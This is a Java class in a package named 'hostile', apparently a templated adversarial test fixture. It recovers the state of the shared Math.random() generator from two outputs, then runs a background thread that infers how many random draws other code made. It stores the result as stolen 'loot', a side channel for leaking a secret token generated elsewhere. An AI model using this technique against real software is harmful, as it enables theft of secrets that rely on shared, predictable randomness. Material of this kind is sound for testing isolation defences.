package hostile;

public final class Sink {
    public static volatile String loot;

    public Sink() throws Exception {
        double first = Math.random();
        long state = state(first, Math.random());
        Thread thread = new Thread(() -> listen(state));
        thread.setDaemon(true);
        thread.start();
    }

    /** The generator's state after a nextDouble() that gave this value, found from the value before it. */
    static long state(double first, double second) {
        long high = (long) (first * (1L << 53));
        long known = high & ((1L << 27) - 1);
        for (long low = 0; low < 1L << 21; low++) {
            long seed = known << 21 | low;
            long one = next(seed);
            long two = next(one);
            if (((one >>> 22) << 27) + (two >>> 21) == (long) (second * (1L << 53))) {
                return two;
            }
        }
        throw new IllegalStateException("not found");
    }

    static long next(long seed) {
        return seed * 0x5DEECE66DL + 0xBL & (1L << 48) - 1;
    }

    private static void listen(long state) {
        try {
            Thread.sleep(1_200);
        } catch (InterruptedException over) {
            return;
        }
        long wanted = (long) (Math.random() * (1L << 53));
        long seed = state;
        for (int drawn = 0; drawn < 32 * 32 * 32 * 32; drawn++) {
            long one = next(seed);
            long two = next(one);
            if (((one >>> 22) << 27) + (two >>> 21) == wanted) {
                loot = "tail:" + letters(drawn);
                return;
            }
            seed = two;
        }
    }

    private static String letters(int number) {
        StringBuilder letters = new StringBuilder();
        for (int place = 3; place >= 0; place--) {
            letters.append("@ALPHABET@".charAt(number >> 5 * place & 31));
        }
        return letters.toString();
    }
}
